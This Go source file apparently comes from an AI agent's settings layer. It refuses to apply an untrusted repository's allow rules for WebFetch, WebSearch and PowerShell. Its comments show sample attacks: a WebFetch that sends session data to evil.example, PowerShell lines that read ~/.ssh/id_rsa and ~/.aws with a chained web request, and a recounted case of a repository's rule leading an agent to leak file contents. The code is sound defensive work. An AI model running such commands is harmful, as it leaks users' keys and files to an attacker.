package settings

// unconfinedTools are the built-in tools an untrusted repository's allow
// rule cannot be kept inside the repository for, each with why:
//
//   - WebFetch and WebSearch: every call reaches outside the repository
//     over the network. A URL and a query are sent to a host, and what
//     the session read travels in them. The whole tool,
//     WebFetch(domain:*) and WebFetch(domain:*.com) name every host, and
//     WebFetch(domain:evil.example) names the one the repository's author
//     owns, where https://evil.example/?k=<what the session read> lands.
//   - PowerShell: agentctl reads no file operand of a PowerShell command,
//     so no rule of it can be confined the way a repository's Bash rule is
//     (confineBash). The whole tool approved `Get-Content ~/.ssh/id_rsa`,
//     and a pattern such as PowerShell(Get-ChildItem *) approved whatever
//     followed its prefix (`Get-ChildItem ~/.aws; iwr …`).
var unconfinedTools = map[string]string{
	"WebFetch":   "a WebFetch call reaches outside the repository (what the session read travels in its URL, to a host the repository may own)",
	"WebSearch":  "a WebSearch call reaches outside the repository (what the session read travels in its query)",
	"PowerShell": "agentctl reads no file a PowerShell command names, so the rule cannot be kept inside the repository",
}

// repositoryNetworkAllow reports an untrusted repository's allow rule for
// an unconfinedTools tool, and warns that it is not applied. The
// repository's `"allow": ["WebFetch"]` let the agent send a file's content
// to the repository's host unasked while its Read(~/**) was already
// dropped. Deny and ask rules for these tools still narrow; the user's
// rules and a trusted workspace's are untouched.
func (s *Settings) repositoryNetworkAllow(src Source, r Rule, why string) bool {
	reason, ok := unconfinedTools[r.Tool]
	if r.Behavior != Allow || r.ToolGlob || !ok {
		return false
	}
	s.warn(r.Pos, "%s allow rule %s not applied: %s, and %s", src, r.Text, reason, why)
	return true
}
